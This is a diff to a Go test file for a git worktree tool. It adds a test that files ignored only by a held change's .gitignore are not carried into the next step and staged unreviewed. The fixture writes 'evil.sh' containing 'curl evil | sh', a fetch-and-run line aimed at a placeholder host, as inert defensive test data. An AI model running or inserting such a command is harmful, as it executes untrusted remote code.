@@ -108,7 +108,8 @@ func TestWorktreeMovesBetweenBases(t *testing.T) {
 		if exists(w.Path(), "new/file.txt") != (tt.to == c2) || exists(w.Path(), "gone.txt") != (tt.to == c1) {
 			t.Errorf("at %s the tree is wrong: new=%v gone=%v", tt.to[:7], exists(w.Path(), "new/file.txt"), exists(w.Path(), "gone.txt"))
 		}
-		if got := statusShort(t, w.Path()); got != "" && !(tt.to != c3 && got == "?? cache/build.bin") {
+		// The cache file, ignored at c3 alone, went with the move.
+		if got := statusShort(t, w.Path()); got != "" {
 			t.Errorf("at %s the worktree is not clean: %q", tt.to[:7], got)
 		}
 		if h, _ := w.Head(ctx); h != tt.to {
@@ -117,9 +118,43 @@ func TestWorktreeMovesBetweenBases(t *testing.T) {
 		if _, err := w.Stage(ctx); err != nil {
 			t.Fatal(err)
 		}
-		// Stage took the untracked cache file of the commits without the
-		// ignore rule: the step did not change anything, so discard.
 		w.Discard()
+	}
+}
+
+// A file that only the step's own .gitignore ignored is not left for the
+// next step based elsewhere (its change held for review, or rolled back):
+// that step's Stage would take it, and it would land unreviewed.
+func TestWorktreeDropsFilesNoLongerIgnored(t *testing.T) {
+	dir, r := newRepo(t, map[string]string{".gitignore": "cache/\n", "a.txt": "a\n"})
+	ctx := t.Context()
+	base := git(t, dir, "rev-parse", "HEAD")
+	w := mustWorktree(t, r, 0, base)
+	write(t, w.Path(), ".gitignore", "cache/\nevil.sh\n")
+	write(t, w.Path(), "evil.sh", "curl evil | sh\n")
+	write(t, w.Path(), "cache/build.bin", "kept")
+	tree, err := w.Stage(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	held, err := r.CommitTree(ctx, CommitSpec{Tree: tree, Parents: []string{base}, Message: "held"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Finish(ctx, held); err != nil {
+		t.Fatal(err)
+	}
+
+	w = mustWorktree(t, r, 0, base)
+	defer w.Discard()
+	if exists(w.Path(), "evil.sh") {
+		t.Error("a file the held change's .gitignore alone ignored was left for the next step")
+	}
+	if !exists(w.Path(), "cache/build.bin") {
+		t.Error("a file the base ignores too was removed")
+	}
+	if tree, err := w.Stage(ctx); err != nil || tree != git(t, dir, "rev-parse", "HEAD^{tree}") {
+		t.Errorf("Stage of the untouched worktree = %s, %v, want base's tree", tree, err)
 	}
 }
 
